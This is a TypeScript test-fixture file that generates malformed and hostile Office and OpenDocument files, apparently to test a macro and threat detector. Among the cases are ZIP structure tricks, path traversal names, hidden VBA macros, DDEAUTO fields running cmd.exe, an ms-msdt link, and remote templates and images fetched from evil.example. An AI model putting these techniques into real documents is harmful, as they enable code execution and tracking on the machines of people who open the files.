import { endOf, odf, officeZip, ooxml, ooxmlParts } from './office-files.ts';
import type { Parts } from './office-files.ts';

const OLE = Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1VBA', 'latin1');
const VBA_TYPE = 'application/vnd.ms-office.vbaProject';
const VBA_RELATION = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject';

/** A document with macros whose directory states fewer files than it lists. */
function falseCount(by: number): Buffer {
  const file = ooxml('docx', { parts: { 'word/z.bin': OLE } });
  const end = file.length - 22;
  for (const at of [8, 10]) file.writeUInt16LE(file.readUInt16LE(end + at) + by, end + at);
  return file;
}
const changed = (file: Buffer, change: (file: Buffer) => void): Buffer => {
  change(file);
  return file;
};
const plain = (): Buffer => ooxml('docx', {}, {});
const entryAt = (file: Buffer, nth = 0): number => {
  let at = file.indexOf('PK\x01\x02', 'latin1');
  for (let n = 0; n < nth; n += 1) at = file.indexOf('PK\x01\x02', at + 4, 'latin1');
  return at;
};
/** Inserts bytes and updates the end record with the directory's new position. */
function withBytes(file: Buffer, at: number, bytes: Buffer): Buffer {
  const start = file.readUInt32LE(file.length - 6);
  const grown = Buffer.concat([file.subarray(0, at), bytes, file.subarray(at)]);
  grown.writeUInt32LE(start + bytes.length, grown.length - 6);
  return grown;
}
const directoryStart = (file: Buffer): number => file.readUInt32LE(file.length - 6);
/** A second entry for a file under another name, sharing its bytes. */
function listedTwice(): Buffer {
  const file = plain();
  const start = directoryStart(file);
  const end = file.length - 22;
  const first = file.subarray(start, file.indexOf('PK\x01\x02', start + 4, 'latin1'));
  const again = Buffer.from(first);
  again.write('X', 46, 'latin1');
  const count = file.readUInt16LE(end + 8) + 1;
  return Buffer.concat([file.subarray(0, end), again, endOf(count, end - start + again.length, start)]);
}
const twoNames = (first: string, second: string): Buffer => ooxml('docx', { parts: { [first]: 'a', [second]: 'b' } });
export const field = (...runs: string[]): string =>
  `<w:document><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:document>`;
const related = (type: string, target: string, outside = true): Buffer =>
  ooxml('docx', { relations: [[type, target, outside]] });
export const parts = (change: (parts: Record<string, string | Buffer>) => Parts): Buffer =>
  officeZip(change(ooxmlParts('docx')), { deflate: true });
const types = (types: string): Buffer => ooxml('docx', { types });
export const utf16 = (text: string): Buffer => Buffer.from(`\uFEFF${text}`, 'utf16le');

/** Documents that run something or are two things at once, each in a different way. */
export const HOSTILE: [string, () => Buffer][] = [
  ['a count one too small, hiding macros', () => falseCount(-1)],
  [
    'a count of one',
    () => changed(falseCount(0), (file) => [8, 10].map((at) => file.writeUInt16LE(1, file.length - 22 + at))),
  ],
  ['a count one too large', () => falseCount(1)],
  [
    'a count of zero',
    () => changed(plain(), (file) => [8, 10].map((at) => file.writeUInt16LE(0, file.length - 22 + at))),
  ],
  ['two counts', () => changed(plain(), (file) => file.writeUInt16LE(1, file.length - 14))],
  [
    'a directory that states fewer bytes',
    () => changed(plain(), (file) => file.writeUInt32LE(file.readUInt32LE(file.length - 10) - 46, file.length - 10)),
  ],
  ['another disk', () => changed(plain(), (file) => file.writeUInt16LE(1, file.length - 18))],
  ['bytes before it', () => Buffer.concat([Buffer.from('PK\x03\x04'), plain()])],
  ['bytes before it, with adjusted offsets', () => withBytes(plain(), 0, Buffer.from('MZ program'))],
  ['bytes after it', () => Buffer.concat([plain(), Buffer.from('x')])],
  [
    'bytes between file and directory',
    () => {
      const file = plain();
      return withBytes(file, directoryStart(file), Buffer.from('hidden'));
    },
  ],
  [
    'a file that its directory does not list',
    () => {
      const file = plain();
      return withBytes(file, directoryStart(file), officeZip({ 'word/vbaProject.bin': OLE }).subarray(0, 60));
    },
  ],
  [
    'another end record in its comment',
    () => officeZip(ooxmlParts('docx'), { comment: `PK\x05\x06${'\0'.repeat(18)}` }),
  ],
  [
    'another archive in its comment',
    () =>
      officeZip(ooxmlParts('docx'), {
        comment: officeZip({ a: 'b' })
          .toString('latin1')
          .replaceAll(/[^\0-\x7f]/gu, ''),
      }),
  ],
  [
    'a contradicting 64-bit end record',
    () => changed(ooxml('docx', {}, { zip64: true }), (file) => file.writeUInt32LE(1, file.length - 22 - 20 - 56 + 32)),
  ],
  [
    'a 64-bit end record elsewhere',
    () => changed(ooxml('docx', {}, { zip64: true }), (file) => file.writeUInt32LE(5, file.length - 22 - 20 + 8)),
  ],
  [
    'sizes that refer to a missing 64-bit field',
    () => changed(plain(), (file) => file.writeUInt32LE(0xffffffff, entryAt(file) + 20)),
  ],
  ['a name that differs in both places', () => changed(plain(), (file) => file.write('X', 30, 'latin1'))],
  ['a size that differs in both places', () => changed(plain(), (file) => file.writeUInt32LE(3, 18))],
  ['a method that differs in both places', () => changed(plain(), (file) => file.writeUInt16LE(8, 8))],
  ['an encrypted file', () => officeZip(ooxmlParts('docx'), { flags: 1 })],
  ['masked names', () => officeZip(ooxmlParts('docx'), { flags: 0x2000 })],
  ['a second name for a file', () => officeZip(ooxmlParts('docx'), { extra: Buffer.from([0x75, 0x70, 1, 0, 0x61]) })],
  ['one file listed twice', () => listedTwice()],
  ['two names that differ only in case', () => twoNames('word/a.xml', 'word/A.xml')],
  ['a path to a parent folder', () => twoNames('../evil.xml', 'b')],
  ['a Windows path', () => twoNames('word\\a.xml', 'b')],
  ['an absolute path', () => twoNames('/etc/passwd', 'b')],
  ['a NUL in a name', () => twoNames('word/a.xml\0.png', 'b')],
  ['vbaProject.bin', () => ooxml('docx', { parts: { 'word/vbaProject.bin': OLE } })],
  ['vbaProject.bin in capitals', () => ooxml('docx', { parts: { 'word/VBAPROJECT.BIN': 'x' } })],
  ['macros under another name', () => ooxml('docx', { parts: { 'word/printer.bin': OLE } })],
  ['macros named as a picture', () => ooxml('docx', { parts: { 'word/media/image1.png': OLE } })],
  ['macros by their type alone', () => types(`<Override PartName="/word/x.dat" ContentType="${VBA_TYPE}"/>`)],
  [
    'macros by type, with a character reference',
    () => types(`<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vb&#97;Project"/>`),
  ],
  ['macros by extension', () => types(`<Default Extension="bin" ContentType="${VBA_TYPE}"/>`)],
  [
    'a main part with macros',
    () =>
      parts((all) => ({
        ...all,
        '[Content_Types].xml': String(all['[Content_Types].xml']).replace(
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main',
          'application/vnd.ms-word.document.macroEnabled.main',
        ),
      })),
  ],
  ['macros by relation', () => related(VBA_RELATION, 'x.dat', false)],
  [
    'relations in UTF-16',
    () =>
      ooxml('docx', {
        parts: {
          'word/_rels/a.xml.rels': utf16(
            `<Relationships><Relationship Type="${VBA_RELATION}" Target="x"/></Relationships>`,
          ),
        },
      }),
  ],
  [
    'relations with entities',
    () =>
      ooxml('docx', { parts: { 'word/_rels/a.xml.rels': '<!DOCTYPE r [<!ENTITY t "vbaProject">]><Relationships/>' } }),
  ],
  [
    'relations in UTF-7',
    () =>
      ooxml('docx', { parts: { 'word/_rels/a.xml.rels': '<?xml version="1.0" encoding="UTF-7"?><Relationships/>' } }),
  ],
  [
    'Excel 4 macro sheets',
    () =>
      ooxml('xlsx', {
        types: '<Override PartName="/xl/macrosheets/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
      }),
  ],
  [
    'Excel 4 macro sheets by relation',
    () =>
      ooxml('xlsx', { relations: [['http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet', 'x.xml']] }),
  ],
  ['a template from the web', () => related('attachedTemplate', 'https://evil.example/t.dotm')],
  ['a template from another computer', () => related('attachedTemplate', '\\\\evil.example\\share\\t.dotm')],
  ['a template by file URL, from another computer', () => related('attachedTemplate', 'file://evil.example/t.dotm')],
  ['a template by file URL, escaped', () => related('attachedTemplate', 'file:///%5C%5Cevil.example/t.dotm')],
  [
    'an external template not marked as external',
    () => related('attachedTemplate', 'https://evil.example/t.dotm', false),
  ],
  ['a picture from the web', () => related('image', 'http://evil.example/pixel.png')],
  ['an object from the web', () => related('oleObject', 'mhtml:http://evil.example/x.html!x')],
  ['a frame', () => related('frame', 'https://evil.example')],
  ['foreign content', () => related('aFChunk', 'afchunk.mht', false)],
  ['a link that runs something', () => related('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
  ['a link that is a script', () => related('hyperlink', 'java&#115;cript:alert(1)')],
  ['a control', () => related('control', 'activeX/activeX1.xml', false)],
  [
    'an embedded object',
    () =>
      ooxml('docx', {
        relations: [['oleObject', 'embeddings/oleObject1.bin']],
        parts: { 'word/embeddings/oleObject1.bin': OLE },
      }),
  ],
  ['an embedded program', () => ooxml('docx', { parts: { 'word/embeddings/a.dat': 'MZ\x90' } })],
  ['an embedded archive', () => ooxml('docx', { parts: { 'word/embeddings/a.dat': officeZip({ a: 'b' }) } })],
  [
    'an embedded document with macros',
    () =>
      ooxml('docx', { parts: { 'word/embeddings/a.xlsx': ooxml('xlsx', { parts: { 'xl/vbaProject.bin': OLE } }) } }),
  ],
  [
    'deeply nested documents',
    () => {
      let inner = ooxml('docx');
      for (let n = 0; n < 4; n += 1) inner = ooxml('docx', { parts: { 'word/embeddings/a.docx': inner } });
      return inner;
    },
  ],
  ['DDE', () => ooxml('docx', { body: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"') })],
  ['DDE in pieces', () => ooxml('docx', { body: field(' D', 'D', 'E cmd') })],
  ['DDE in a simple field', () => ooxml('docx', { body: '<w:document><w:fldSimple w:instr="DDE cmd"/></w:document>' })],
  ['DDE in a header', () => ooxml('docx', { parts: { 'word/header1.xml': field('DDEAUTO cmd') } })],
  ['DDE in UTF-16', () => ooxml('docx', { parts: { 'word/header1.xml': utf16(field('DDEAUTO cmd')) } })],
  [
    'a field that fetches a picture',
    () => ooxml('docx', { body: field('INCLUDEPICTURE "http://evil.example/p.png"') }),
  ],
  [
    'DDE in Excel',
    () =>
      ooxml('xlsx', {
        parts: {
          'xl/externalLinks/externalLink1.xml':
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        },
      }),
  ],
  [
    'a web query',
    () =>
      ooxml('xlsx', {
        parts: {
          'xl/connections.xml':
            '<connections><connection><webPr url="https://evil.example"/></connection></connections>',
        },
      }),
  ],
  [
    'two main parts',
    () =>
      parts((all) => ({
        ...all,
        '_rels/.rels': String(all['_rels/.rels']).replace(
          '</Relationships>',
          '<Relationship Id="x" Type="http://x/officeDocument" Target="word/b.xml"/></Relationships>',
        ),
      })),
  ],
  [
    'two content types for one part',
    () => types('<Override PartName="/word/document.xml" ContentType="application/xml"/>'),
  ],
  [
    'a part longer than stated',
    () =>
      changed(ooxml('docx'), (file) => {
        const at = entryAt(file);
        file.writeUInt32LE(5, at + 24);
        file.writeUInt32LE(5, 22);
      }),
  ],
  ['Basic', () => odf('text', '', { 'Basic/Standard/Module1.xml': '<script:module/>' })],
  ['Python', () => odf('text', '', { 'Scripts/python/a.py': 'import os' })],
  ['a dialog', () => odf('text', '', { 'Dialogs/a.xml': '<d/>' })],
  [
    'a macro that runs on opening',
    () =>
      odf(
        'text',
        '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x.py$y?language=Python&amp;location=share"/></office:event-listeners></office:scripts>',
      ),
  ],
  ['a script in the text', () => odf('text', '<text:script script:language="JavaScript">x</text:script>')],
  ['a link that is a macro', () => odf('text', '<text:a xlink:href="vnd.sun.star.script:x">x</text:a>')],
  ['an ODF picture from the web', () => odf('text', '<draw:image xlink:href="https://evil.example/p.png"/>')],
  [
    'a section from another computer',
    () => odf('text', '<text:section-source xlink:href="file://evil.example/a.odt"/>'),
  ],
  [
    'DDE in LibreOffice',
    () => odf('spreadsheet', '<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>'),
  ],
  ['an OLE object in ODF', () => odf('text', '', { 'Object 1': OLE })],
  ['an encrypted ODF', () => odf('text', '', { 'META-INF/manifest2.xml': '<manifest:encryption-data/>' })],
  ['ODF and Office at once', () => odf('text', '', { '[Content_Types].xml': '<Types/>' })],
  [
    'an ODF type that isn’t first',
    () => officeZip({ ...ooxmlParts('docx'), mimetype: 'application/vnd.oasis.opendocument.text' }),
  ],
];
